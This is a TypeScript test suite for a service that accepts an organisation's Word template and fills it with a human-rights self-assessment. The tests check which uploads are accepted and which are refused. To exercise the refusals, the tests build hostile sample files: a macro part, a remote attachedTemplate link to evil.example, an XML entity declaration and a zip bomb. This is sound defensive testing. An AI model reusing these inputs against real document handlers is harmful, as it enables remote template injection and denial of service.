import {
  Document as WordFile,
  ExternalHyperlink,
  Header,
  HeadingLevel,
  Packer,
  Paragraph,
  Table,
  TableCell,
  TableRow,
  TextRun,
} from 'docx';
import fc from 'fast-check';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { Problem } from '../../server/http/problem.ts';
import { checkTemplate } from '../../server/templates/check.ts';
import type { TemplateView } from '../../server/templates/contract.ts';
import { Service, type Person } from './service.ts';

/** The organisation's own Word template: what is taken, what is refused, and what comes out. */
let service: Service;
let sara: Person;
let id: string;
const at = '/api/v1/organisations/1281/template';

beforeAll(async () => {
  service = await Service.start();
  sara = await service.person('coordinator');
  id = await service.assessment(sara);
  await service.answer(sara, id, 'SL-01', { level: 2, motivation: 'Beslut <2024> & "mer"\nrad två' });
});
afterAll(() => service.stop());
beforeEach(async () => {
  await service.deps.db.deleteFrom('templates').execute();
  // Each test is another minute, for the limit on how often one may try.
  service.clock.now = new Date(service.clock.now.getTime() + 61_000);
});

interface Made {
  readonly body?: readonly (Paragraph | Table)[];
  readonly head?: string;
}
async function made({ body = [new Paragraph('{innehall}')], head = 'Lunds kommun' }: Made = {}): Promise<Buffer> {
  return Packer.toBuffer(
    new WordFile({
      sections: [{ headers: { default: new Header({ children: [new Paragraph(head)] }) }, children: [...body] }],
    }),
  );
}
/** The same file with some parts put in, changed or taken away. */
function changed(bytes: Buffer, change: (parts: Record<string, Uint8Array>) => void): Buffer {
  const parts = unzipSync(bytes);
  change(parts);
  return Buffer.from(zipSync(parts));
}
const edit = (parts: Record<string, Uint8Array>, name: string, edited: (xml: string) => string) => {
  parts[name] = strToU8(edited(strFromU8(parts[name] ?? new Uint8Array())));
};
const send = (payload: Buffer, name = 'mall.docx', as = sara) =>
  service.call('PUT', `${at}?name=${encodeURIComponent(name)}`, {
    as,
    payload,
    headers: { 'content-type': 'application/octet-stream' },
  });
const refusal = async (payload: Buffer) => {
  const answer = await send(payload);
  expect((await service.call('GET', at, { as: sara })).json()).toBeNull();
  return [answer.statusCode, answer.json<{ title: string }>().title] as const;
};
const written = async (): Promise<Record<string, string>> => {
  const answer = await service.call('GET', `/api/v1/assessments/${id}/documents/egen-mall.docx`, { as: sara });
  expect(answer.statusCode).toBe(200);
  const parts = unzipSync(answer.rawPayload);
  return Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, strFromU8(part)]));
};
const textIn = (xml = '') => xml.replaceAll('</w:p>', '\n').replaceAll(/<[^>]+>/g, '');

const plain = (text: string) =>
  text.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"').replaceAll('&amp;', '&');

describe('a template that is taken', () => {
  test('is told with its fields, replaces the one before, and can be taken away', async () => {
    const answer = await send(await made({ body: [new Paragraph('{titel}'), new Paragraph('{innehall}')] }));
    expect(answer.json<TemplateView>()).toMatchObject({
      name: 'mall.docx',
      updatedBy: 'Person 1',
      tags: ['titel', 'innehall'],
    });
    await send(await made(), 'Ny mall.docx');
    expect((await service.call('GET', at, { as: sara })).json()).toMatchObject({
      name: 'Ny mall.docx',
      tags: ['innehall'],
    });
    expect((await service.call('DELETE', at, { as: sara })).statusCode).toBe(204);
    expect((await service.call('DELETE', at, { as: sara })).statusCode).toBe(404);
    expect((await service.call('GET', at, { as: sara })).json()).toBeNull();
    const gone = await service.call('GET', `/api/v1/assessments/${id}/documents/egen-mall.docx`, { as: sara });
    expect(gone.statusCode).toBe(404);
  });

  test('gets the whole letter in its own headings, with tables, and keeps its letterhead', async () => {
    const bytes = changed(await made({ head: 'Brevhuvud {organisation}' }), (parts) => {
      edit(parts, 'word/styles.xml', (xml) =>
        xml
          .replaceAll('w:styleId="Heading1"', 'w:styleId="Rubrik1"')
          .replaceAll('w:val="Heading 1"', 'w:val="heading 1"'),
      );
    });
    expect((await send(bytes)).statusCode).toBe(200);
    const parts = await written();
    const body = parts['word/document.xml'] ?? '';
    expect(body).toContain('<w:pStyle w:val="Rubrik1"/>');
    expect(textIn(body)).toContain('Sammanfattning');
    expect(textIn(body)).toContain('SL-01');
    expect(plain(textIn(body))).toContain('Beslut <2024> & "mer"');
    expect(body).toContain('<w:tblHeader/>');
    expect(textIn(body)).not.toContain('{');
    const heads = Object.entries(parts).filter(([name]) => name.includes('word/header'));
    expect(heads.map(([, xml]) => textIn(xml)).join('')).toContain('Brevhuvud Lunds kommun');
  });

  test('fills single fields and repeats rows of a table', async () => {
    const row = new TableRow({
      children: ['{#omraden}{omrade}', '{index}{/omraden}'].map(
        (text) => new TableCell({ children: [new Paragraph(text)] }),
      ),
    });
    await send(await made({ body: [new Paragraph('År {ar}: {sammanfattning}'), new Table({ rows: [row] })] }));
    const text = textIn((await written())['word/document.xml']);
    expect(text).toMatch(/År 2026: Lunds kommun har bedömt/);
    for (const area of ['Styrning och ledning', 'Uppföljning', 'Samspel med civila samhället', 'Agenda 2030'])
      expect(text).toContain(area);
  });

  test('may link to the organisation’s own pages: somebody clicks on that', async () => {
    const link = new ExternalHyperlink({ link: 'https://lund.example', children: [new TextRun('lund.example')] });
    const body = [new Paragraph({ children: [link] }), new Paragraph('{innehall}')];
    expect((await send(await made({ body }))).statusCode).toBe(200);
  });

  test('the template to begin from is one that is taken', async () => {
    const start = await service.call('GET', '/api/v1/template-start.docx', { as: sara });
    expect((await send(start.rawPayload)).statusCode).toBe(200);
    const text = textIn((await written())['word/document.xml']);
    expect(text).toContain('Självskattning av arbetet med mänskliga rättigheter 2026');
    expect(text).not.toContain('{');
  });
});

describe('a template that is refused, with the reason', () => {
  test.each([
    ['no zip', () => Promise.resolve(Buffer.from('inte Word')), /går inte att läsa som Word/],
    ['empty', () => Promise.resolve(Buffer.alloc(0)), /går inte att läsa som Word/],
    [
      'a zip without a document',
      () => Promise.resolve(Buffer.from(zipSync({ 'a.xml': strToU8('<a/>') }))),
      /inget Word-dokument/,
    ],
    [
      'macros',
      async () =>
        changed(await made(), (parts) => {
          parts['word/vbaProject.bin'] = strToU8('x');
        }),
      /makron/,
    ],
    [
      'a macro-enabled type',
      async () =>
        changed(await made(), (parts) => {
          edit(parts, '[Content_Types].xml', (xml) =>
            xml.replace('wordprocessingml.document.main', 'document.macroEnabled.main'),
          );
        }),
      /makron/,
    ],
    [
      'a template fetched from outside',
      async () =>
        changed(await made(), (parts) => {
          parts['word/_rels/settings.xml.rels'] = strToU8(
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
          );
        }),
      /hämtar något utifrån/,
    ],
    [
      'an embedded file',
      async () =>
        changed(await made(), (parts) => {
          parts['word/embeddings/a.bin'] = strToU8('x');
        }),
      /inbäddade/,
    ],
    [
      'entities',
      async () =>
        changed(await made(), (parts) => {
          edit(parts, 'word/document.xml', (xml) => xml.replace('?>', '?><!DOCTYPE a [<!ENTITY b "c">]>'));
        }),
      /inte skriven av Word/,
    ],
    [
      'an unknown field',
      async () => made({ body: [new Paragraph('{innehall} {budget}')] }),
      /fält som inte finns: \{budget\}/,
    ],
    ['an unknown field in the header', async () => made({ head: '{logga}' }), /fält som inte finns: \{logga\}/],
    ['no field at all', async () => made({ body: [new Paragraph('Text')] }), /inga fält/],
    ['an unfinished list', async () => made({ body: [new Paragraph('{#svar}{kod}')] }), /inte avslutat/],
    [
      'a bomb',
      () => Promise.resolve(Buffer.from(zipSync({ 'word/document.xml': new Uint8Array(21 * 1024 * 1024) }))),
      /för stor när den packas upp/,
    ],
  ])('%s', async (_what, build, reason) => {
    const [status, title] = await refusal(await build());
    expect(status).toBe(422);
    expect(title).toMatch(reason);
  });

  test('too large, or by another name, or by somebody else', async () => {
    expect((await send(Buffer.alloc(2 * 1024 * 1024 + 1))).statusCode).toBe(413);
    expect((await send(await made(), 'mall.docm')).statusCode).toBe(422);
    const boss = await service.person('decision_maker');
    expect((await send(await made(), 'mall.docx', boss)).statusCode).toBe(403);
  });

  test('whatever is done to the bytes, it is taken or refused, and never breaks', async () => {
    const bytes = await made();
    await fc.assert(
      fc.asyncProperty(fc.nat(bytes.length - 1), fc.nat(255), fc.nat(400), async (from, value, length) => {
        const broken = Buffer.from(bytes);
        broken.fill(value, from, Math.min(from + length, broken.length));
        const said = await checkTemplate(broken).catch((error: unknown) => error);
        expect(Array.isArray(said) || said instanceof Problem).toBe(true);
      }),
      { numRuns: 60 },
    );
  });
});

test('a heading without a style in the template still reads as one', async () => {
  const bytes = changed(
    await made({ body: [new Paragraph({ text: 'x', heading: HeadingLevel.HEADING_1 }), new Paragraph('{innehall}')] }),
    (parts) => {
      edit(parts, 'word/styles.xml', (xml) =>
        xml.replaceAll(/<w:style [^>]*w:styleId="Heading\d"[\s\S]*?<\/w:style>/g, ''),
      );
    },
  );
  await send(bytes);
  expect((await written())['word/document.xml']).toContain('<w:outlineLvl w:val="0"/>');
});
